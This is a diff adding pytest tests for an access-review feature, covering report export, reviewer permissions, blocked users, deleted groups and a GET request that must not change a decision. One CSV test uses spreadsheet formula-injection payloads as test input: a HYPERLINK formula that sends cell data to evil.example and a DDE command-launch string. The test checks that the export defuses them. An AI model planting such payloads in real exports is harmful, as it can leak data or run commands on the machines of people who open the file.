@@ -102,3 +102,87 @@ class TestRevokeNeverGives:
         browser_of(root_user).post(f"/reviews/{review.pk}/apply/")
         assert review.items.get().outcome == "revoked"
         assert not Membership.objects.filter(user=ada).exists()
+
+
+class TestReportForSpreadsheets:
+    def test_typed_formulas_are_defused_and_the_json_reads_back(self, admin, root_user):
+        support = group_with("support", ("allow", "backoffice:users:view"))
+        # An address may start with = (RFC 5322 allows it in the local part).
+        odd = UserFactory(email="=cmd@shop.example", groups=[support])
+        ada = UserFactory(email="ada@shop.example", groups=[support])
+        review = start(root_user, group=support, reviewer_mode="named", reviewers=[root_user])
+        rc = browser_of(root_user)
+        typed = {
+            odd: '=HYPERLINK("http://evil.example/?"&A1,"x")',
+            ada: '@SUM(1+1)*cmd|" /C calc"!A0\nsecond "line"',
+        }
+        for person, text in typed.items():
+            assert decide(rc, review.items.get(user=person), "approve", text).status_code == 302
+        text = admin.get(f"/reviews/{review.pk}/report.csv").content.decode()
+        rows = list(csv.reader(io.StringIO(text)))
+        for row in rows[1:]:
+            for cell in row:
+                assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
+        assert any(cell == "'" + typed[odd] for row in rows for cell in row)
+        data = json.loads(admin.get(f"/reviews/{review.pk}/report.json").content)
+        got = {i["user"]: i["justification"] for i in data["items"]}
+        # JSON is no spreadsheet: it keeps what was typed, exactly.
+        assert got == {odd.email: typed[odd], ada.email: typed[ada]}
+
+    def test_a_reviewer_without_the_view_right_reads_no_report(self, root_user):
+        support = group_with("support", ("allow", "backoffice:users:view"))
+        UserFactory(email="ada@shop.example", groups=[support])
+        reviewer = UserFactory(email="rev@shop.example")
+        review = start(root_user, group=support, reviewer_mode="named", reviewers=[reviewer])
+        client = browser_of(reviewer)
+        for path in ("report.csv", "report.json", ""):
+            response = client.get(f"/reviews/{review.pk}/{path}")
+            assert response.status_code in (302, 403, 404), path
+            assert b"ada@shop.example" not in response.content
+
+
+class TestLater:
+    def test_a_blocked_reviewer_decides_nothing(self, root_user):
+        support = group_with("support", ("allow", "backoffice:users:view"))
+        UserFactory(email="ada@shop.example", groups=[support])
+        reviewer = UserFactory(email="rev@shop.example")
+        review = start(root_user, group=support, reviewer_mode="named", reviewers=[reviewer])
+        client = browser_of(reviewer)
+        User.objects.filter(pk=reviewer.pk).update(status=User.Status.BLOCKED)
+        decide(client, review.items.get(), "revoke", "gone")
+        assert review.items.get().decision == ""
+
+    def test_an_owner_blocked_before_the_end_revokes_nothing(self, admin, root_user):
+        support = group_with("support", ("allow", "backoffice:users:view"))
+        ada = UserFactory(email="ada@shop.example", groups=[support])
+        owner = UserFactory(email="owner@shop.example", groups=["root"])
+        review = start(owner, group=support, default=Review.Default.REVOKE, auto_apply=True)
+        User.objects.filter(pk=owner.pk).update(status=User.Status.BLOCKED)
+        end_now(review)
+        services.reviews_sweep()
+        assert Membership.objects.filter(user=ada, group=support).exists()
+        assert review.items.get().outcome == "not_applied"
+
+    def test_a_group_deleted_mid_review_applies_cleanly(self, root_user):
+        support = group_with("support", ("allow", "backoffice:users:view"))
+        UserFactory(email="ada@shop.example", groups=[support])
+        review = start(root_user, group=support, default=Review.Default.REVOKE)
+        support.delete()
+        end_now(review)
+        services.reviews_sweep()
+        rc = browser_of(root_user)
+        assert rc.post(f"/reviews/{review.pk}/apply/").status_code == 302
+        assert review.items.get().outcome == "not_applied"
+        assert rc.get(f"/reviews/{review.pk}/").status_code == 200
+        assert rc.get(f"/reviews/{review.pk}/report.csv").status_code == 200
+
+    def test_get_on_a_decision_changes_nothing(self, root_user):
+        support = group_with("support", ("allow", "backoffice:users:view"))
+        ada = UserFactory(email="ada@shop.example", groups=[support])
+        review = start(root_user, group=support)
+        item = review.items.get()
+        response = browser_of(ada).get(
+            f"/reviews/items/{item.pk}/decide/?decision=revoke&justification=x"
+        )
+        assert response.status_code == 405
+        assert review.items.get().decision == ""
